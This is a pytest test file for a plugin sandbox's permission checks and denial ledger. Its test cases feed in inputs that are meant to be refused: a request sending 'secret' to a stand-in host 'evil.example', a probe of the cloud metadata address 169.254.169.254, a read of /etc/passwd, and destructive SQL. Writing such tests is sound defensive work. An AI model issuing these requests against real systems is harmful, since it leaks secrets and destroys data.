"""Every denial is a row in the ledger, whatever it is that was denied."""

from __future__ import annotations

import pytest
from doubles import OpenSandbox, activate, make_bundle

from plugwright.capabilities import Outside, real
from plugwright.errors import BrokeContract, Denied, UsageError
from plugwright.hooks import hookimpl
from plugwright.ledger import Kind
from plugwright.sandboxes import SandboxOffer

PROBE = """
from plugwright_sdk import command, emit, files, http, log, models, storage

@command
def get(url: str) -> int:
    return http.get(url).status

@command
def look(name: str, folder: str = "") -> str:
    return files.read_text(name, folder=folder)

@command
def leave(name: str, text: str) -> None:
    files.write_text(name, text)

@command
def ask(role: str, prompt: str) -> str:
    return models.ask(role, prompt)

@command
def keep(key: str) -> None:
    storage.set(key, 1)

@command
def query(sql: str) -> list[dict[str, str]]:
    return storage.query(sql)

@command
def hide(url: str) -> str:
    try:
        http.get(url)
    except PermissionError:
        return "nobody saw"
"""
COMMANDS = {
    "get": ("url",),
    "look": ("name", "folder"),
    "leave": ("name", "text"),
    "ask": ("role", "prompt"),
    "keep": ("key",),
    "query": ("sql",),
    "hide": ("url",),
}
GRANTED = (
    "files.read:~/lessons",
    "files.write:~/lessons",
    "http:GET https://api.example.org/v1/*",
    "model:role=tutor,tokens=100",
    "storage:lesson/*",
)


class Engine:
    @hookimpl
    def sandboxes(self):
        return [SandboxOffer(name="wasm", summary="no wall", open=OpenSandbox)]


@pytest.fixture
def probe(host, tmp_path, monkeypatch):
    """Activate a plugin that does as it is told, and give a way to tell it."""
    (tmp_path / "person" / "lessons").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "person"))
    host.manager.register(Engine(), "engine")

    def start(*permissions):
        about = {"commands": COMMANDS, "permissions": permissions}
        activate(host, make_bundle(PROBE, name="probe", **about))
        return lambda command, **arguments: host.run("probe", command, arguments)

    return start


def denied(host):
    rows = host.ledger.rows(plugin="probe")
    return [row.facts()["permission"] for row in rows if row.kind == Kind.DENIED]


DENIED = [
    ("get", {"url": "https://evil.example/?q=secret"}, "http:GET https://evil.example"),
    ("get", {"url": "http://169.254.169.254/a"}, "http:GET http://169.254.169.254"),
    ("look", {"name": "passwd", "folder": "/etc"}, "files.read:/etc"),
    ("ask", {"role": "judge", "prompt": "secret"}, "model:role=judge"),
    ("keep", {"key": "settings"}, "storage:settings"),
    ("query", {"sql": "ATTACH ':memory:' AS a"}, "storage.query:attach"),
    ("query", {"sql": "DROP TABLE storage"}, "storage.query:change"),
]


@pytest.mark.parametrize(("command", "arguments", "permission"), DENIED)
def test_what_goes_beyond_a_grant_is_one_row(
    host, probe, command, arguments, permission
):
    tell = probe(*GRANTED)
    with pytest.raises(Denied) as told:
        tell(command, **arguments)
    assert told.value.permission == permission
    assert denied(host) == [permission]


@pytest.mark.parametrize(
    ("command", "arguments", "permission"),
    [
        ("get", {"url": "https://api.example.org/v1/a"}, "http"),
        ("look", {"name": "week.txt"}, "files.read"),
        ("leave", {"name": "week.txt", "text": "a"}, "files.write"),
        ("ask", {"role": "tutor", "prompt": "a"}, "model"),
        ("keep", {"key": "lesson/1"}, "storage"),
        ("query", {"sql": "SELECT 1"}, "storage"),
    ],
)
def test_without_any_grant_the_kind_is_named(
    host, probe, command, arguments, permission
):
    with pytest.raises(Denied) as told:
        probe()(command, **arguments)
    assert told.value.permission == permission
    assert denied(host) == [permission]


def test_a_denial_that_is_hidden_is_a_row_too(host, probe):
    tell = probe(*GRANTED)
    assert tell("hide", url="https://evil.example/") == "nobody saw"
    assert denied(host) == ["http:GET https://evil.example"]


def test_what_no_plugin_may_is_told_so(probe):
    with pytest.raises(Denied, match="no plugin may; `probe` has to do without"):
        probe(*GRANTED)("query", sql="PRAGMA table_list")


def test_what_was_granted_is_done(probe, tmp_path):
    tell = probe(*GRANTED)
    tell("leave", name="old/week.txt", text="mon")
    assert tell("look", name="old/week.txt") == "mon"
    tell("keep", key="lesson/1")
    assert tell("query", sql="SELECT * FROM storage") == [
        {"key": "lesson/1", "value": "1"}
    ]
    file = tmp_path / "person" / "lessons" / "old" / "week.txt"
    assert file.read_text() == "mon"


def test_plugwrights_own_folder_is_no_plugins(host, probe, home, monkeypatch):
    monkeypatch.setenv("HOME", str(home.database.parent.parent))
    tell = probe(f"files.read:~/{home.database.parent.name}")
    with pytest.raises(BrokeContract, match="holds what is Plugwright's own"):
        tell("look", name="plugwright.db")


def test_a_role_without_a_model_is_a_sentence(probe):
    with pytest.raises(BrokeContract, match="nobody plays the role `tutor`"):
        probe(*GRANTED)("ask", role="tutor", prompt="a")


def test_tokens_begin_anew_with_each_call(host, probe):
    from plugwright.capabilities.models import Assigned
    from plugwright.providers import Completion

    class Counting:
        def complete(self, request):
            return Completion(text="yes", tokens_in=60, tokens_out=30)

    host.runner._guests._models = Assigned({"tutor": "x"}, lambda name: Counting())
    tell = probe(*GRANTED)
    for _ in range(3):
        assert tell("ask", role="tutor", prompt="a") == "yes"


def test_the_real_outside_has_no_more_time_than_the_plugin(host):
    from plugwright.quotas import Quota

    assert real.real(Quota(seconds=2.0), None, ()).seconds == 2.0
    assert real.real(Quota(seconds=99.0), None, ()).seconds == Outside.seconds


def test_a_permission_that_does_not_parse_is_refused_before_anything_runs():
    with pytest.raises(UsageError, match="does not name a folder"):
        make_bundle(PROBE, permissions=("files.read:lessons",))
